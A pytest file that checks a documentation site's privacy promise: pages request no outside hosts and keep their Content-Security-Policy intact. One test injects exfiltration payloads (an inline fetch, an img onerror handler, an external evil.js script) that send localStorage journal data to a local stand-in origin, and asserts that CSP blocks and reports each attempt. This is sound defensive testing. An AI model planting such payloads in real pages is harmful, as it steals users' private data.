"""Privacy: reading the site sends nothing to any other host, and the
Content-Security-Policy of every page holds while search, previews, the lens
and the journal run; a payload planted in a page cannot send the journal away.

The site promises no third-party requests (no web fonts, no analytics, no
CDN). Every page is loaded, switched between colour schemes, a preview is
opened where the page has one, and a search is run to its results (so
Material's search worker has loaded its index and rendered them): the visit
in ``tour.py``, shared with the accessibility test. Every request of the page
and of its workers is recorded, whether served from the network or from the
browser's cache (Chromium reports cached loads as requests too).
"""

from __future__ import annotations

import functools
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from tests.browser.pages import DESKTOP, watch_policy

LOCAL_SCHEMES = {"data", "blob", "about"}


def test_no_page_requests_another_host_or_breaks_the_policy(site_tour, server, subtests):
    """Only the local server is contacted; data:, blob: and about: are fine; and
    no page reports a Content-Security-Policy violation (so the policy breaks
    neither search, nor previews, nor the lens and journal scripts).

    Every visit must have reached its search results, at least three
    requests (page, stylesheet, script) must be seen per page, and the search
    index must be among them, so the test cannot pass because nothing was
    recorded."""
    local = urlsplit(server).netloc

    def foreign(url: str) -> bool:
        parts = urlsplit(url)
        return parts.scheme not in LOCAL_SCHEMES and parts.netloc != local

    assert len(site_tour) > 20, f"only {len(site_tour)} pages visited"
    assert sum(visit.previewed for visit in site_tour) > 10, "hardly any page had a preview opened"
    for visit in site_tour:
        where, seen = visit.where, visit.requests
        with subtests.test(page=where):
            assert visit.policies == 1, f"{where} has {visit.policies} Content-Security-Policy meta tags"
            assert not visit.violations, f"{where} broke the policy:\n  " + "\n  ".join(visit.violations)
            outside = sorted({url for url in seen if foreign(url)})
            assert not outside, f"{where} requested other hosts:\n  " + "\n  ".join(outside)
            assert visit.searched, f"{where}: the visit stopped while {visit.error}"
            assert len(seen) >= 3, f"{where}: only {len(seen)} request(s) recorded: {seen}"
            assert any(url.endswith("/search/search_index.json") for url in seen), (
                f"{where}: the search index was not requested, so search was not exercised: {seen}")


class _Recorder(BaseHTTPRequestHandler):
    """Another origin that would receive what a payload sends: it records every request."""

    def __init__(self, received: list[str], *args, **kwargs):
        self.received = received
        super().__init__(*args, **kwargs)

    def do_GET(self):  # noqa: N802 - http.server's API name
        self.received.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *args):
        pass


@pytest.fixture
def elsewhere():
    """Base URL of a second local server (another origin), and what it received."""
    received: list[str] = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Recorder, received))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", received
    httpd.shutdown()
    httpd.server_close()


def test_a_planted_payload_cannot_send_the_journal(chromium, server, elsewhere):
    """A journal answer is in localStorage; a page is served with an inline
    script, an ``<img onerror>`` and an external script planted in it, each
    sending the journal to another origin, and a script the test runs itself
    (as a payload that got past the policy would) tries ``fetch`` and a beacon.
    Nothing reaches the other origin, and the policy reports each attempt."""
    other, received = elsewhere
    steal = f"'{other}/?' + encodeURIComponent(localStorage.getItem('resonance:journal'))"
    planted = (f"<script>fetch({steal})</script>"
               f'<img src="data:," onerror="new Image().src = {steal.replace(chr(39), "&#39;")}">'
               f'<script src="{other}/evil.js"></script>')
    context = chromium.new_context(**DESKTOP)
    watch_policy(context)
    page = context.new_page()
    try:
        page.goto(server + "journal/")
        page.evaluate("localStorage.setItem('resonance:journal', JSON.stringify({p: {a: 'private answer'}}))")

        def plant(route):
            response = route.fetch()
            route.fulfill(response=response, body=response.text().replace("</body>", planted + "</body>"))

        page.route("**/journal/", plant)
        page.goto(server + "journal/")
        page.wait_for_function("() => document.querySelector('img[src=\"data:,\"]') !== null")
        outcome = page.evaluate(f"""async () => {{
            const results = [];
            try {{ await fetch({steal}); results.push('fetch sent'); }}
            catch (e) {{ results.push('fetch blocked'); }}
            results.push(navigator.sendBeacon({steal}, 'x') ? 'beacon queued' : 'beacon refused');
            return results;
        }}""")
        assert outcome[0] == "fetch blocked", outcome
        # Every attempt is reported: inline script, event handler, external script, fetch, beacon.
        page.wait_for_function("() => window.__cspViolations.length >= 5")
        reported = sorted(page.evaluate("window.__cspViolations"))
        assert reported == ["connect-src", "connect-src", "script-src-attr", "script-src-elem",
                            "script-src-elem"], reported
        assert received == [], f"the other origin received: {received}"
    finally:
        context.close()
